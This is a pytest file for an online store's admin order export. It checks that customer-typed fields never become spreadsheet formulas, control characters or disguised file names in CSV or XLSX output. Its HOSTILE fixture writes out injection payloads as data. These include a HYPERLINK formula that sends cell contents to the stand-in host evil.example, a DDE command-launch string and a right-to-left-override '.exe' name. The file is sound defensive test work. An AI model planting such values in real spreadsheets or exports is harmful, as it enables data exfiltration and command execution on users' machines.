"""Exports a spreadsheet opens safely (issue 20): what shoppers typed on Stripe's page never
becomes a formula, a control character or a reversed file name, in CSV or XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from store.spreadsheets import FORMULA_STARTS, INVISIBLE, csv_text
from tests.test_orders_admin import make_order

HOSTILE = {
    "customer_name": "=1+1",
    "shipping_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "shipping_line1": "+cmd|' /C calc'!A0",
    "shipping_line2": "-2+3",
    "shipping_city": "@SUM(A1:A9)",
    "shipping_state": "\t=1+2",
    "carrier": "\r=3+4",
    "tracking_number": "invoice\u202egpj.exe",
    "customer_phone": "+919988776655",
    "shipping_postal_code": "＝1+1",
}


@pytest.fixture
def hostile_order(db):
    return make_order("paid", email="asha@example.com", **HOSTILE)


def csv_rows(admin_client) -> list[dict[str, str]]:
    response = admin_client.get("/admin/orders/", {"export": "csv"})
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_no_csv_cell_is_a_formula_or_holds_control_characters(admin_client, hostile_order):
    (row,) = csv_rows(admin_client)
    for heading, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), f"{heading}: {cell!r} would be evaluated"
        assert not INVISIBLE.search(cell), f"{heading}: {cell!r} has control characters"
    assert row["Customer"] == "'=1+1"
    assert row["Tracking number"] == "invoicegpj.exe"
    # The phone number stays text (a spreadsheet would make +919988776655 a number).
    assert row["Phone"] == "'+919988776655"
    # Amounts stay numbers a spreadsheet can sum.
    assert row["Total"] == "1300.00"


def test_no_xlsx_cell_is_a_formula_or_holds_control_characters(admin_client, hostile_order):
    response = admin_client.get("/admin/orders/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, values = list(sheet.iter_rows(values_only=False))[:2]
    cells = dict(zip([cell.value for cell in header], values, strict=True))
    for heading, cell in cells.items():
        assert cell.data_type != "f", f"{heading}: {cell.value!r} is a formula"
        if isinstance(cell.value, str):
            assert not INVISIBLE.search(cell.value), f"{heading}: {cell.value!r}"
    assert cells["Customer"].value == "=1+1" and cells["Customer"].data_type == "s"
    assert cells["Phone"].value == "+919988776655" and cells["Phone"].data_type == "s"
    assert cells["Total"].value == 1300


@pytest.mark.parametrize(
    "typed, cell",
    [
        ("Asha Rao", "Asha Rao"),
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'=1"),
        ("a\x00b\x1fc\u202ed", "abcd"),
        ("ok=1", "ok=1"),
    ],
)
def test_csv_text(typed, cell):
    assert csv_text(typed) == cell
